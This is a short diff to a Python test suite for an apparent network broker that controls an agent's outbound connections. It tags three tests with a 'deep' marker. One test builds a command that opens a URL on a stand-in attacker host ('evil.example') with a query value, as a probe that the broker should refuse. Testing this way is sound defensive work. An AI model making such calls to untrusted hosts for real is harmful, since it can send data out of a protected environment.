@@ -72,6 +72,7 @@ def test_a_call_of_the_model_has_the_key_and_nothing_inside_has(
     assert " hello#1 POST " in brokered.log("network.txt")
 
 
+@pytest.mark.deep
 def test_a_host_that_is_refused_is_told_to_the_next_attempt(brokered: Any) -> None:
     brokered.spec("hello")
     get = f"{PYTHON} -c 'import urllib.request as u; u.urlopen(\"https://evil.example/x?y=1\")'"
@@ -99,6 +100,7 @@ def test_a_check_reaches_listed_hosts_and_has_no_key(brokered: Any, outside: Out
     assert f" check GET 127.0.0.1:{outside.port}/proxied 200 " in log
 
 
+@pytest.mark.deep
 def test_an_agent_is_started_as_without_a_broker(brokered: Any) -> None:
     """Its environment is its own, a broken pipe ends it, and its strays, its end and its TERM are counted as ever."""
     brokered.spec("hello")
@@ -115,6 +117,7 @@ def test_an_agent_is_started_as_without_a_broker(brokered: Any) -> None:
     assert "heard the TERM" in brokered.log("hello.log")
 
 
+@pytest.mark.deep
 def test_a_run_that_ends_at_its_time_leaves_no_thread_and_no_socket(brokered: Any, outside: Outside) -> None:
     outside.answer = lambda one: begin_chunks(one)(b"x") or one.connection.recv(1)
     brokered.spec("hello")
